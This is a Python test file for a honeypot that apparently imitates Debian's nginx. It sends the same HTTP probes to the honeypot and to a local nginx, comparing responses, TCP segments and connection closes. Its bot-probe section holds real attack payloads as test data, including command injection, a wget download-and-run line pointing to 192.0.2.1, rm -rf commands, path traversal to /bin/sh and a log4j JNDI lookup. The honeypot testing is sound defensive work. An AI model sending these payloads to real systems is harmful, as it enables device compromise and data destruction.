"""Differential HTTP probes (issue 14): what scanners, bots and honeypot
detectors send to port 80, sent at the same time to lure and to Debian 12's
nginx (nginx-light, run here on 127.0.0.1 with Debian's nginx.conf settings
and default site: sendfile, tcp_nopush, gzip on, server_tokens on, root with
index.nginx-debian.html, try_files $uri $uri/ =404).

For personas whose HTTP claims to be nginx (Server: nginx/...); skipped for
the others. The page nginx serves is the persona's, and its mtime is set to
the one lure announces (Last-Modified), so ETag and Last-Modified must match
too; only the Date header's value is masked (per instance: the clock).

Per probe, compared: the bytes sent back (status lines, header names, order
and values, bodies), their segmentation (the payload of every TCP segment
the server sent, seen on the loopback interface with an AF_PACKET socket: one
write is one segment), and how the server ended (FIN, RST, or still open
when the client left: keep-alive). Differences that cannot be fixed are
xfail with the reason; the score (identical / probes) prints at the end.
"""
import ctypes
import os
import re
import shutil
import socket
import struct
import subprocess
import threading
import time
from email.utils import parsedate_to_datetime
from pathlib import Path

import pytest

from conftest import REPO, info, Sensor, wait_until, free_port, recv_into
FIN, RST = 0x01, 0x04

H = b"Host: 127.0.0.1\r\n"
UA = b"User-Agent: Mozilla/5.0 zgrab/0.x\r\n"
PAGE = "/index.nginx-debian.html"


def get(path=b"/", ver=b"HTTP/1.1", extra=b"", method=b"GET"):
    return method + b" " + path + b" " + ver + b"\r\n" + H + extra + b"\r\n"


CHELLO = bytes.fromhex(
    "16030100c4010000c00303" + "11" * 32 + "00" + "0020" + "c02bc02fc02cc030cca9cca8c013c014"
    "009c009d002f0035000a0005" + "0100" + "0077" + "0000000e000c0000096c6f63616c686f7374"
    "000b00020100000a00080006001d00170018000d00140012040308040401050308050501080606010201"
    "0010000e000c02683208687474702f312e31" + "002b0007060304030303020301" + "0033002600240"
    "01d0020" + "22" * 32)

# name -> [(bytes to send, seconds to wait after)]; "shut": the client
# half-closes. {etag} and {lm} are replaced by lure's ETag and Last-Modified.
PROBES = {
    # ordinary requests
    "get_root": [(get(), 0.3)],
    "get_root_close": [(get(extra=b"Connection: close\r\n"), 0.3)],
    "get_page": [(get(PAGE.encode()), 0.3)],
    "get_query": [(get(b"/?a=1&b=2"), 0.3)],
    "get_double_slash": [(get(b"//"), 0.3)],
    "get_ua": [(get(extra=UA + b"Accept: */*\r\n"), 0.3)],
    "get_10": [(b"GET / HTTP/1.0\r\n\r\n", 0.3)],
    "get_10_host": [(b"GET / HTTP/1.0\r\n" + H + b"\r\n", 0.3)],
    "get_10_keepalive": [(b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n", 0.3),
                         (b"GET / HTTP/1.0\r\n\r\n", 0.3)],
    "get_11_nohost": [(b"GET / HTTP/1.1\r\n\r\n", 0.3)],
    "get_09": [(b"GET /\r\n", 0.3)],
    "get_09_lf": [(b"GET /\n", 0.3)],
    "get_lf_only": [(b"GET / HTTP/1.1\nHost: x\n\n", 0.3)],
    "get_gzip": [(get(extra=b"Accept-Encoding: gzip, deflate\r\n"), 0.3)],
    "get_gzip_10": [(b"GET / HTTP/1.0\r\nAccept-Encoding: gzip\r\n\r\n", 0.3)],
    "head_root": [(get(method=b"HEAD"), 0.3)],
    "head_10": [(b"HEAD / HTTP/1.0\r\n\r\n", 0.3)],
    "if_none_match": [(get(extra=b"If-None-Match: {etag}\r\n"), 0.3)],
    "if_modified_since": [(get(extra=b"If-Modified-Since: {lm}\r\n"), 0.3)],
    "if_match_bad": [(get(extra=b'If-Match: "nope"\r\n'), 0.3)],
    # methods
    "options": [(get(method=b"OPTIONS"), 0.3)],
    "options_star": [(get(b"*", method=b"OPTIONS"), 0.3)],
    "post_body": [(get(extra=b"Content-Type: application/x-www-form-urlencoded\r\n"
                       b"Content-Length: 7\r\n", method=b"POST") + b"a=1&b=2", 0.3)],
    "post_empty": [(get(extra=b"Content-Length: 0\r\n", method=b"POST"), 0.3)],
    "put": [(get(b"/x.txt", extra=b"Content-Length: 3\r\n", method=b"PUT") + b"abc", 0.3)],
    "delete": [(get(method=b"DELETE"), 0.3)],
    "patch": [(get(method=b"PATCH"), 0.3)],
    "propfind": [(get(extra=b"Depth: 1\r\n", method=b"PROPFIND"), 0.3)],
    "unknown_method": [(get(method=b"FOO"), 0.3)],
    "lower_method": [(get(method=b"get"), 0.3)],
    "long_method": [(get(method=b"GETGETGETGETGETGETGET"), 0.3)],
    "trace": [(get(method=b"TRACE"), 0.3)],
    "connect": [(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", 0.3)],
    # versions
    "http_2_0": [(get(ver=b"HTTP/2.0"), 0.3)],
    "http_1_10": [(get(ver=b"HTTP/1.10"), 0.3)],
    "http_1_2": [(get(ver=b"HTTP/1.2"), 0.3)],
    "http_3": [(get(ver=b"HTTP/3"), 0.3)],
    "http_lower": [(get(ver=b"http/1.1"), 0.3)],
    "h2_preface": [(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 0.3)],
    # URIs
    "absolute_uri": [(get(b"http://example.com/"), 0.3)],
    "absolute_uri_port": [(get(b"http://127.0.0.1:80/index.nginx-debian.html"), 0.3)],
    "absolute_https": [(get(b"https://example.com/"), 0.3)],
    "dotdot": [(get(b"/../../../../etc/passwd"), 0.3)],
    "dotdot_encoded": [(get(b"/%2e%2e/%2e%2e/etc/passwd"), 0.3)],
    "dotdot_inside": [(get(b"/a/b/../../index.nginx-debian.html"), 0.3)],
    "pct_encoded": [(get(b"/%69ndex.nginx-debian.html"), 0.3)],
    "pct_bad": [(get(b"/%zz"), 0.3)],
    "pct_nul": [(get(b"/index%00.html"), 0.3)],
    "nul_byte": [(get(b"/a\x00b"), 0.3)],
    "space_in_uri": [(b"GET /a b HTTP/1.1\r\n" + H + b"\r\n", 0.3)],
    "uri_4k": [(get(b"/" + b"a" * 5000), 0.3)],
    "uri_9k": [(get(b"/" + b"a" * 9000), 0.3)],
    # headers
    "header_4k": [(get(extra=b"X-Pad: " + b"b" * 4200 + b"\r\n"), 0.3)],
    "header_9k": [(get(extra=b"X-Pad: " + b"b" * 9000 + b"\r\n"), 0.3)],
    "headers_20k": [(get(extra=b"".join(b"X-P%d: " % i + b"c" * 5000 + b"\r\n"
                                        for i in range(4))), 0.3)],
    "headers_40k": [(get(extra=b"".join(b"X-P%d: " % i + b"c" * 7000 + b"\r\n"
                                        for i in range(6))), 0.3)],
    "header_no_colon": [(get(extra=b"Foo\r\n"), 0.3)],
    "header_underscore": [(get(extra=b"X_Foo: 1\r\n"), 0.3)],
    "header_space_colon": [(get(extra=b"X-Foo : 1\r\n"), 0.3)],
    "header_fold": [(get(extra=b"X-Foo: a\r\n b\r\n"), 0.3)],
    "host_bad": [(b"GET / HTTP/1.1\r\nHost: a/b\r\n\r\n", 0.3)],
    "host_twice": [(get(extra=H), 0.3)],
    "msie_404": [(get(b"/nope", extra=b"User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; "
                      b"Windows NT 5.1)\r\n"), 0.3)],
    # Range
    "range_0_10": [(get(extra=b"Range: bytes=0-10\r\n"), 0.3)],
    "range_suffix": [(get(extra=b"Range: bytes=-10\r\n"), 0.3)],
    "range_open": [(get(extra=b"Range: bytes=600-\r\n"), 0.3)],
    "range_past_end": [(get(extra=b"Range: bytes=0-100000\r\n"), 0.3)],
    "range_unsatisfiable": [(get(extra=b"Range: bytes=1000-\r\n"), 0.3)],
    "range_bad": [(get(extra=b"Range: bytes=abc\r\n"), 0.3)],
    "range_units": [(get(extra=b"Range: items=0-10\r\n"), 0.3)],
    "range_multi": [(get(extra=b"Range: bytes=0-1,5-6\r\n"), 0.3)],
    "range_multi_3": [(get(extra=b"Range: bytes=0-0,-2,10-20\r\n"), 0.3)],
    "range_multi_head": [(get(method=b"HEAD", extra=b"Range: bytes=0-1,5-6\r\n"), 0.3)],
    "range_head": [(get(method=b"HEAD", extra=b"Range: bytes=0-10\r\n"), 0.3)],
    "range_gzip": [(get(extra=b"Accept-Encoding: gzip\r\nRange: bytes=0-10\r\n"), 0.3)],
    "range_if_range_etag": [(get(extra=b"If-Range: {etag}\r\nRange: bytes=0-10\r\n"), 0.3)],
    "range_if_range_old": [(get(extra=b'If-Range: "1-2"\r\nRange: bytes=0-10\r\n'), 0.3)],
    "range_if_range_date": [(get(extra=b"If-Range: {lm}\r\nRange: bytes=-5\r\n"), 0.3)],
    "range_spaces": [(get(extra=b"Range: bytes= 1 - 3 \r\n"), 0.3)],
    "range_overlap": [(get(extra=b"Range: bytes=0-600,0-600\r\n"), 0.3)],
    "range_10": [(b"GET / HTTP/1.0\r\nRange: bytes=0-0\r\n\r\n", 0.3)],
    "range_404": [(get(b"/nope", extra=b"Range: bytes=0-10\r\n"), 0.3)],
    # bodies
    "expect_continue": [(get(extra=b"Expect: 100-continue\r\nContent-Length: 4\r\n",
                             method=b"POST"), 0.3), (b"abcd", 0.3)],
    "expect_continue_get": [(get(extra=b"Expect: 100-continue\r\nContent-Length: 4\r\n"),
                             0.3), (b"abcd", 0.3)],
    "chunked_good": [(get(extra=b"Transfer-Encoding: chunked\r\n", method=b"POST")
                      + b"4\r\nabcd\r\n0\r\n\r\n", 0.3)],
    "chunked_bad": [(get(extra=b"Transfer-Encoding: chunked\r\n", method=b"POST")
                     + b"zz\r\nabcd\r\n0\r\n\r\n", 0.3)],
    "chunked_10": [(b"POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 0.3)],
    "te_gzip": [(get(extra=b"Transfer-Encoding: gzip\r\n", method=b"POST"), 0.3)],
    "cl_bad": [(get(extra=b"Content-Length: abc\r\n", method=b"POST"), 0.3)],
    "cl_negative": [(get(extra=b"Content-Length: -1\r\n", method=b"POST"), 0.3)],
    "cl_twice": [(get(extra=b"Content-Length: 1\r\nContent-Length: 1\r\n",
                      method=b"POST") + b"a", 0.3)],
    "cl_and_te": [(get(extra=b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
                       method=b"POST") + b"0\r\n\r\n", 0.3)],
    "cl_huge": [(get(extra=b"Content-Length: 99999999999\r\n", method=b"POST"), 0.3)],
    "get_with_body": [(get(extra=b"Content-Length: 5\r\n") + b"hello", 0.3)],
    # connections
    "pipelined": [(get() + get(PAGE.encode()), 0.3)],
    "pipelined_close": [(get() + get(extra=b"Connection: close\r\n"), 0.3)],
    "keepalive_second": [(get(extra=b"Connection: keep-alive\r\n"), 0.3), (get(b"/nope"), 0.3)],
    "half_close": [(get(), 0.1), ("shut", 0.4)],
    "partial_then_shut": [(b"GET / HTT", 0.2), ("shut", 0.4)],
    "empty_lines": [(b"\r\n\r\n", 0.3)],
    "nothing": [(b"", 0.5)],
    "tls_hello": [(CHELLO, 0.3)],
    "ssh_banner": [(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n", 0.3)],
    "binary_junk": [(bytes(range(256)), 0.3)],
    "rtsp_options": [(b"OPTIONS rtsp://127.0.0.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", 0.3)],
    # what bots ask for
    "cgi_bin_traversal": [(get(b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", method=b"POST",
                               extra=b"Content-Length: 22\r\n") + b"echo;id;uname -a;echo", 0.3)],
    "cgi_bin_luci": [(get(b"/cgi-bin/luci/;stok=/locale?form=country&operation=write"
                          b"&country=$(id>/tmp/x)"), 0.3)],
    "dot_env": [(get(b"/.env", extra=UA), 0.3)],
    "dot_git": [(get(b"/.git/config"), 0.3)],
    "wp_login": [(get(b"/wp-login.php"), 0.3)],
    "hnap1": [(get(b"/HNAP1/", extra=b'SOAPAction: "http://purenetworks.com/HNAP1/'
                   b'GetDeviceSettings"\r\n'), 0.3)],
    "boaform": [(get(b"/boaform/admin/formLogin", method=b"POST",
                     extra=b"Content-Length: 29\r\n") + b"username=admin&psd=Feefifofum", 0.3)],
    "shell_wget": [(get(b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws"), 0.3)],
    "setup_cgi": [(get(b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"
                       b"&curpath=/&currentsetting.htm=1"), 0.3)],
    "gponform": [(get(b"/GponForm/diag_Form?images/", method=b"POST",
                      extra=b"Content-Length: 16\r\n") + b"XWebPageName=dia", 0.3)],
    "phpunit": [(get(b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method=b"POST",
                     extra=b"Content-Length: 18\r\n") + b"<?php phpinfo(); ?>"[:18], 0.3)],
    "actuator": [(get(b"/actuator/health"), 0.3)],
    "robots": [(get(b"/robots.txt"), 0.3)],
    "favicon": [(get(b"/favicon.ico"), 0.3)],
    "log4j_header": [(get(extra=b"X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n"), 0.3)],
}

# Known differences that cannot be fixed (the README lists them): probe ->
# reason. (Pipelined requests were one: their answers now leave in one
# segment, src/conn.c corks the socket while they are answered.)
KNOWN = {}

RESULTS = {}


class Sniffer:
    """Every IPv4 TCP segment on lo to or from the given server ports, in
    order: (source address+port, destination address+port, flags, payload). A BPF filter keeps other tests'
    traffic out of the socket; the buffer is forced large (root)."""

    def __init__(self, ports):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.s.setsockopt(socket.SOL_SOCKET, 33, 1 << 25)  # SO_RCVBUFFORCE
        p1, p2 = ports
        prog = [(0x28, 0, 0, 12), (0x15, 0, 9, 0x0800),  # IPv4
                (0x30, 0, 0, 23), (0x15, 0, 7, 6),  # TCP
                (0xb1, 0, 0, 14),
                (0x48, 0, 0, 14), (0x15, 5, 0, p1), (0x15, 4, 0, p2),  # source port
                (0x48, 0, 0, 16), (0x15, 2, 0, p1), (0x15, 1, 0, p2),  # destination
                (0x06, 0, 0, 0), (0x06, 0, 0, 0x40000)]
        code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in prog))
        self.s.setsockopt(socket.SOL_SOCKET, 26,  # SO_ATTACH_FILTER
                          struct.pack("HL", len(prog), ctypes.addressof(code)))
        self.s.bind(("lo", 0))
        self.s.settimeout(0.2)
        self.pkts = []
        self.run = True
        self.t = threading.Thread(target=self.loop, daemon=True)
        self.t.start()

    def loop(self):
        while self.run:
            try:
                d, addr = self.s.recvfrom(70000)
            except socket.timeout:
                continue
            if addr[2] == socket.PACKET_OUTGOING or len(d) < 34:
                continue
            ip = d[14:]
            if ip[0] >> 4 != 4 or ip[9] != 6:
                continue
            ihl = (ip[0] & 15) * 4
            tot = struct.unpack("!H", ip[2:4])[0]
            tcp = ip[ihl:tot]
            sport, dport = struct.unpack("!HH", tcp[:4])
            off = (tcp[12] >> 4) * 4
            self.pkts.append((ip[12:16] + struct.pack("!H", sport),
                              ip[16:20] + struct.pack("!H", dport), tcp[13], bytes(tcp[off:])))

    def stop(self):
        self.run = False
        self.t.join(2)
        self.s.close()


def drive(port, script, out, key, subst, src):
    """Play the script from address src; out[key] = (client end, bytes
    received)."""
    c = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(src, 0))
    lport = c.getsockname()[1]
    got = bytearray()

    try:
        alive = True
        for data, wait in script:
            if not alive:
                break
            if data == "shut":
                c.shutdown(socket.SHUT_WR)
            elif data:
                for k, v in subst.items():
                    data = data.replace(k, v)
                try:
                    c.sendall(data)
                except OSError:
                    break
            alive = recv_into(c, got, time.monotonic() + wait)
        if alive:
            recv_into(c, got, time.monotonic() + 0.7)
    finally:
        c.close()
    out[key] = (socket.inet_aton(src) + struct.pack("!H", lport), bytes(got))


DATE = re.compile(rb"\r\nDate: [A-Za-z]{3}, \d\d [A-Za-z]{3} \d{4} \d\d:\d\d:\d\d GMT")


def mask(b):
    return DATE.sub(b"\r\nDate: (date)", b)


def view(sniff, port, run):
    client, got = run
    server = socket.inet_aton("127.0.0.1") + struct.pack("!H", port)
    segs, close = [], "open"
    for sp, dp, flags, payload in list(sniff.pkts):
        if (sp, dp) == (client, server) and flags & (RST | FIN):
            break  # the client left first: what came after does not count
        if (sp, dp) != (server, client):
            continue
        if payload:
            segs.append(mask(payload))
        if flags & (RST | FIN) and close == "open":
            close = "rst" if flags & RST else "fin"
    return {"bytes": mask(got), "segments": [len(s) for s in segs], "close": close}


def nginx_persona():
    """Does the persona's HTTP say it is nginx?"""
    try:
        conf = info().persona_conf().read_text(errors="replace")
    except Exception:
        return False
    return re.search(r'^http\.head\.file\s+"Server: nginx/', conf, re.M) is not None


def nginx_exe():
    exe = shutil.which("nginx") or "/usr/sbin/nginx"
    return exe if Path(exe).exists() else None


@pytest.fixture(scope="module")
def lure_port(tmp_path_factory):
    if not info().first("http"):
        pytest.skip("no HTTP port in this persona")
    if not nginx_persona():
        pytest.skip("this persona's HTTP does not claim to be nginx")
    s = Sensor(tmp_path_factory.mktemp("httpprobe"), "httpprobe")
    s.start({"limits": {"idle_timeout": 30, "per_ip": 1024, "request_timeout": 30}})
    yield s.port(info().first("http"))
    s.close()


def lure_stamp(port):
    """lure's ETag and Last-Modified for /."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as c:
        c.sendall(get(extra=b"Connection: close\r\n"))
        got = b""
        while True:
            d = c.recv(65536)
            if not d:
                break
            got += d
    etag = re.search(rb"\r\nETag: ([^\r]*)", got).group(1)
    lm = re.search(rb"\r\nLast-Modified: ([^\r]*)", got).group(1)
    return etag, lm


@pytest.fixture(scope="module")
def nginx_port(lure_port, tmp_path_factory):
    exe = nginx_exe()
    if not exe:
        pytest.skip("no nginx here (tools/deps.sh installs nginx-light)")
    d = tmp_path_factory.mktemp("nginx")
    root = d / "www"
    root.mkdir()
    for sub in ("logs", "tmp"):
        (d / sub).mkdir()
    page = REPO / "emu/personas" / info().persona / "files/index.nginx-debian.html"
    shutil.copy(page, root / "index.nginx-debian.html")
    _etag, lm = lure_stamp(lure_port)
    t = parsedate_to_datetime(lm.decode()).timestamp()
    os.utime(root / "index.nginx-debian.html", (t, t))
    port = free_port()
    # Debian 12's /etc/nginx/nginx.conf and sites-available/default, but for
    # the paths, the user and one worker
    conf = f"""
user root;
worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/logs/error.log;
events {{ worker_connections 768; }}
http {{
    sendfile on;
    tcp_nopush on;
    types_hash_max_size 2048;
    include /etc/nginx/mime.types;
    default_type application/octet-stream;
    access_log {d}/logs/access.log;
    gzip on;
    client_body_temp_path {d}/tmp/body;
    proxy_temp_path {d}/tmp/proxy;
    fastcgi_temp_path {d}/tmp/fcgi;
    uwsgi_temp_path {d}/tmp/uwsgi;
    scgi_temp_path {d}/tmp/scgi;
    server {{
        listen 127.0.0.1:{port} default_server;
        root {root};
        index index.html index.htm index.nginx-debian.html;
        server_name _;
        location / {{
            try_files $uri $uri/ =404;
        }}
    }}
}}
"""
    (d / "nginx.conf").write_text(conf)
    r = subprocess.run([exe, "-p", str(d), "-c", str(d / "nginx.conf"), "-e",
                        str(d / "logs/error.log")], capture_output=True, text=True)
    assert r.returncode == 0, f"nginx did not start:\n{r.stderr}"
    wait_until(lambda: (d / "nginx.pid").exists(), 5, what="nginx's pid file")
    pid = int((d / "nginx.pid").read_text())
    yield port
    try:
        os.kill(pid, 15)
    except ProcessLookupError:
        pass


@pytest.fixture(scope="module")
def runs(lure_port, nginx_port):
    """Every probe against both servers at once, under one sniffer."""
    etag, lm = lure_stamp(lure_port)
    subst = {b"{etag}": etag, b"{lm}": lm}
    sniff = Sniffer((lure_port, nginx_port))
    out, threads = {}, []
    try:
        for i, (name, script) in enumerate(PROBES.items()):
            # a source address per probe: no two flows share a port pair
            src = f"127.0.{1 + i // 200}.{10 + i % 200}"
            for side, port in (("nginx", nginx_port), ("lure", lure_port)):
                t = threading.Thread(target=drive, args=(port, script, out, (name, side), subst,
                                                          src))
                t.start()
                threads.append(t)
                time.sleep(0.01)
        for t in threads:
            t.join(30)
        time.sleep(0.3)
    finally:
        sniff.stop()
    res = {}
    for name in PROBES:
        res[name] = {side: view(sniff, port, out[(name, side)])
                     for side, port in (("nginx", nginx_port), ("lure", lure_port))
                     if (name, side) in out}
    return res


def differences(r, f):
    return [k for k in ("bytes", "segments", "close") if r[k] != f[k]]


@pytest.mark.parametrize("name", list(PROBES))
def test_probe(runs, name):
    r, f = runs[name]["nginx"], runs[name]["lure"]
    diff = differences(r, f)
    RESULTS[name] = not diff
    if name in KNOWN:
        if diff:
            pytest.xfail(KNOWN[name])
        return
    assert not diff, (f"{name} differs in {diff}:\n  nginx {r}\n  lure  {f}")


def test_score(runs):
    """The score: identical / probes (printed; -s shows it)."""
    same = sum(1 for n in PROBES if not differences(runs[n]["nginx"], runs[n]["lure"]))
    print(f"\nHTTP probes identical to nginx: {same}/{len(PROBES)}")
    assert len(PROBES) >= 60
